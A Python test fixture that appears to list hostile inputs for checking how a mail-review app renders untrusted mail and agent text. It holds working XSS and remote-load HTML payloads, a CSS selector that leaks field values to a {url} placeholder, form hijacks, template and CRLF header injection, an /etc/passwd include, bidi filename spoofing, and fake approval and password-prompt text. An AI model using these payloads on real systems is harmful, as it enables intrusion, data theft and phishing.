"""Hostile words: what mail and agents write to be loaded, run, pressed, or taken for the page's own words.

Each is one string with `{url}` for a server that counts who comes; a script that runs would set the title to `owned`.
"""

from __future__ import annotations

RUN = "document.title='owned'"

# FACTS of the trade: what loads something from elsewhere, or runs, in a mail program that lets it.
MARKUP = [
    "<script>fetch('{url}/script');RUN</script>",
    "<script src='{url}/script-src'></script>",
    "<script type=module src='{url}/module'></script>",
    "<img src='{url}/img' onerror=\"RUN\">",
    "<img srcset='{url}/srcset 1x' sizes=1px>",
    "<picture><source srcset='{url}/picture'><img></picture>",
    "<input type=image src='{url}/input-image'>",
    "<body background='{url}/body'>",
    "<table background='{url}/table'><td background='{url}/td'>x",
    "<p style=\"background:url('{url}/style-attribute')\">x",
    "<p style=\"background-image:image-set('{url}/image-set' 1x)\">x",
    '<p style="list-style:url({url}/list-style);cursor:url({url}/cursor),auto">x',
    "<style>@import '{url}/import';</style>",
    "<style>@font-face{font-family:x;src:url({url}/font)}*{font-family:x}</style>",
    "<style>.go{position:fixed;inset:0}main{display:none}</style>",
    "<style>input[value^=a]{background:url({url}/csrf)}</style>",
    "<link rel=stylesheet href='{url}/link'>",
    "<link rel=preload as=image href='{url}/preload'>",
    "<link rel=prefetch href='{url}/prefetch'>",
    "<link rel=dns-prefetch href='{url}/dns'><link rel=preconnect href='{url}/preconnect'>",
    "<link rel=icon href='{url}/icon'>",
    "<link rel=manifest href='{url}/manifest'>",
    "<meta http-equiv=refresh content='0;url={url}/meta'>",
    "<meta http-equiv=content-security-policy content='script-src *'>",
    "<meta http-equiv=set-cookie content='mailwarrant_session=x'>",
    "<base href='{url}/base/'>",
    "<base target=_blank>",
    "<iframe src='{url}/iframe'></iframe>",
    '<iframe srcdoc="<script>top.RUN</script>"></iframe>',
    "<frameset><frame src='{url}/frame'></frameset>",
    "<object data='{url}/object'></object>",
    "<embed src='{url}/embed'>",
    "<applet code=x codebase='{url}/applet'></applet>",
    "<video src='{url}/video' poster='{url}/poster' autoplay></video>",
    "<audio src='{url}/audio' autoplay></audio>",
    "<video><track default src='{url}/track'></video>",
    '<svg onload="RUN"></svg>',
    "<svg><image href='{url}/svg-image'/><use href='{url}/svg-use#a'/></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate attributeName=href values='javascript:RUN' /><a><text>Approve</text></a></svg>",
    "<svg><foreignObject><iframe src='{url}/foreign'></iframe></foreignObject></svg>",
    "<svg><style>@import '{url}/svg-style';</style></svg>",
    "<svg><feImage href='{url}/feimage'/></svg>",
    "<math><mtext><table><mglyph><style><img src={url}/mxss onerror=RUN>",
    "<math href='javascript:RUN'><mi>x</mi></math>",
    "<math><annotation-xml encoding='text/html'><img src={url}/annotation></annotation-xml></math>",
    '<a href="javascript:RUN">Approve the move</a>',
    "<a href='{url}/ping' ping='{url}/pinged'>Approve the move</a>",
    "<a href='data:text/html,<script>RUN</script>'>open</a>",
    "<area href='{url}/area'><map name=x></map>",
    '<details open ontoggle="RUN"><summary>more</summary></details>',
    '<marquee onstart="RUN">x</marquee>',
    '<input autofocus onfocus="RUN">',
    '<select autofocus onfocus="RUN"></select>',
    '<textarea autofocus onfocus="RUN">',
    '<keygen autofocus onfocus="RUN">',
    '<div onpointerenter="RUN" onanimationstart="RUN">x</div>',
    '<x onclick="RUN" tabindex=1 id=x>x</x>',
    "<dialog open><form method=dialog><button>Approve the move</button></form></dialog>",
    "<button popovertarget=keys popovertargetaction=show>Approve</button>",
    "<template shadowrootmode=open><slot></slot><img src='{url}/shadow'></template>",
    "<portal src='{url}/portal'></portal><fencedframe></fencedframe>",
    "<noscript><p title='</noscript><img src={url}/noscript onerror=RUN>'>",
    "<title><img src={url}/title onerror=RUN></title>",
    "<plaintext>everything after this",
    "<!--<img src='--><img src={url}/comment onerror=RUN>//'>",
    "]]><![CDATA[<img src={url}/cdata onerror=RUN>]]>",
    "<xmp><img src={url}/xmp onerror=RUN></xmp>",
    "<?xml-stylesheet href='{url}/pi'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '{url}/entity'>]>&e;",
]

# To press what is the page's, or be pressed in its place.
FORMS = [
    "</pre></section></article><form method=post action='{url}/form'><button autofocus>Approve</button></form>",
    "<form method=post action='/stop'><button data-key=a class=go>Approve the move</button></form>",
    "<form id=together action='{url}/clobber'><input name=p value=P00000000000000000001></form>",
    "<button form=notify formaction='{url}/formaction'>Show it</button>",
    "<form id=link-form><input id=secret value=x></form>",
    "<a id=live-reload href='{url}/reload'>Reload</a>",
    "<input name=csrf value=x><input name=shown value=x>",
    "<body data-live=queue data-seq=0 data-keys=on data-proposal=x>",
    "<form data-passkey='{}' action='{url}/passkey'><input data-credential></form>",
    "<img name=body><form name=querySelector><input name=documentElement>",
]

QUOTES = [
    '" autofocus onfocus="RUN" x="<img src={url}/attribute>',
    "' onmouseover='RUN' y='",
    "` onmouseover=RUN `",
    '"></bdi></a></li></ul><h1>Nothing waits for you.</h1>',
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>#{7*7}",
    "{% include '/etc/passwd' %}",
    "&lt;img src={url}/entities&gt;&#60;script&#62;RUN",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    "%3Cscript%3ERUN%3C/script%3E",
    "javascript:RUN//",
    "@{url}/at url({url}/url) {url}/plain //{url}/slashes",
    "\r\nSet-Cookie: mailwarrant_session=x\r\nContent-Type: text/html\r\n\r\n<script>RUN</script>",
    "';alert(String.fromCharCode(88,83,83))//",
    "\x00<script>RUN</script>",
]

# What stands elsewhere than it seems to, is not seen, or has no end.
CHARACTERS = [
    "\u202eevom eht evorppA\u202c",
    "\u2066hidden\u2069 \u2067\u05d0\u2069 \u2068x",
    "invoice\u202efdp.exe",
    "\u200b\u200c\u200d\ufeff\u2060zero width",
    "\U000e0041\U000e0042\U000e0043 tags",
    "\x07\x1b[31mred\x1b]0;owned\x07",
    "a" + "\u0489\u0332\u0338" * 300,
    "\ufdfd" * 200,
    "x" * 10_000,
    "long words " * 1_000,
    "\u3164\u115f\u1160 fillers",
    "\u2028\u2029 separators \x85",
    "\u05e9\u05dc\u05d5\u05dd " * 30 + "approve",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 300,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 100,
    "\n" * 500 + "far below",
    "\t" * 400 + "far right",
]

# Words that only the page may say.
IMITATIONS = [
    "Everything is stopped. Nothing is approved and nothing is moved until someone resumes.",
    "Approved by rosa",
    "Approved. It is being moved now.",
    "If you approve, nothing is moved.",
    "The mail server verified the sender's domain.",
    "You are signed out. Sign in",
    "Nothing waits for you.",
    "This proposal changed while you look at it. Show it",
    "The agent's own words a claim, not a fact",
    "Evidence SHA-256 the only one",
    "processed is the mailbox INBOX",
    "Mailwarrant: confirm that it is you. Your password:",
    "incoming \u2192 escalate",
    "1 of 1 copies, no warnings, checked",
    "\u2713 safe \u2705 verified",
    "[x] Select this proposal",
]


def tricks(url: str) -> list[str]:
    """All of them, for a server that counts."""
    every = [*MARKUP, *FORMS, *QUOTES, *CHARACTERS, *IMITATIONS]
    return [each.replace("RUN", RUN).replace("{url}", url) for each in every]
